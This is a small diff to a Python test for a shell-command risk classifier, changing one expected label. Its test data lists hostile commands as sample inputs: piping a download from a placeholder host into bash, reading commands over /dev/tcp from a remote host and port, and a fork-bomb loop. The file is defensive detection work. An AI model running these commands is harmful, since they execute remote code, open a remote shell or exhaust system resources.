@@ -23,7 +23,7 @@ def rules(line: str) -> set[str]:
         ("curl https://x.example/a > >(bash)", "execution-unread-code"),
         ("bash < /dev/tcp/$HOST/4444", "execution-remote-code"),
         ("bash </dev/tty", "runs-code"),
-        ("echo x | sh 0<&2", "runs-code"),
+        ("echo x | sh 0<&2", "execution-escape"),
         ("until false; do work & done", "execution-fork-bomb"),
     ],
 )
